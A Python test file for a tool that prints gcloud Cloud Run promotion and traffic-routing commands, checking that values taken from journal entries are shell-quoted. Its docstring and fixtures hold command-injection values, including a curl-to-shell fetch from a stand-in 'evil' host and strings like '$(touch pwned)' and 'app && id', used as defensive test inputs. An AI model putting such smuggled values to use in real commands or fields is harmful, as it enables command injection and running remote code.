"""Every value a printed gcloud command takes from a journal entry is shell-quoted
(`drift.fix.formats.text.command_line`): an entry someone else wrote (a region of
`us-central1 $(curl evil|sh)`) is never a command in what the on-call copies (revattacker 1,
second effect): `fix --no-promote`'s promotion printed again when `fix` finds the canary
pinned (drift/fix/byhand.py `promote_command`), and a rollback's "route the traffic by hand"
(drift/fix/gone.py `refused`). A plain entry prints the command as before."""

from __future__ import annotations

import dataclasses
import re
import shlex
from pathlib import Path

from drift.fix.byhand import promote_command
from drift.fix.gone import refused
from drift.fix.journal import Entry, Journal
from drift.sandbox import Sandbox
from tests.conftest import MakeSandbox
from tests.fix.conftest import lab_world
from tests.fix.test_no_promote_finish import _no_promote

EVIL = "us-central1 $(touch pwned)"


def _pinned(make_sandbox: MakeSandbox, tmp_path: Path) -> tuple[Sandbox, str, Entry]:
    history = [{"image": "us-docker.pkg.dev/lab/app:v1", "env": {"DEBUG": "true"}}]
    sandbox = make_sandbox(lab_world(history=history))
    command, _ = _no_promote(sandbox, tmp_path)
    (entry,) = Journal(tmp_path / ".drift" / "journal").entries()
    return sandbox, command, entry


def test_the_printed_promotion_quotes_every_journal_value(
    make_sandbox: MakeSandbox, tmp_path: Path
) -> None:
    _, printed, entry = _pinned(make_sandbox, tmp_path)
    assert promote_command(entry) == printed  # a plain entry: the same command as printed
    assert "'" not in printed
    forged = dataclasses.replace(entry, region=EVIL, project="p;id", tag="t`id`")
    words = shlex.split(promote_command(forged))
    assert words[words.index("--region") + 1] == EVIL
    assert words[words.index("--project") + 1] == "p;id"
    assert words[words.index("--remove-tags") + 1] == "t`id`"


def test_the_route_by_hand_command_quotes_every_journal_value(
    make_sandbox: MakeSandbox, tmp_path: Path
) -> None:
    _, _, entry = _pinned(make_sandbox, tmp_path)
    forged = dataclasses.replace(entry, region=EVIL, service="app && id")
    said = refused(forged, ["app-00001-gone"])
    command = re.search(r"`(gcloud run services update-traffic [^`]*)`", said)
    assert command, said
    words = shlex.split(command.group(1))
    assert words[4] == "app && id" and words[words.index("--region") + 1] == EVIL
    plain = re.search(r"`(gcloud [^`]*)`", refused(entry, ["app-00001-gone"]))
    assert plain and "'" not in plain.group(1)
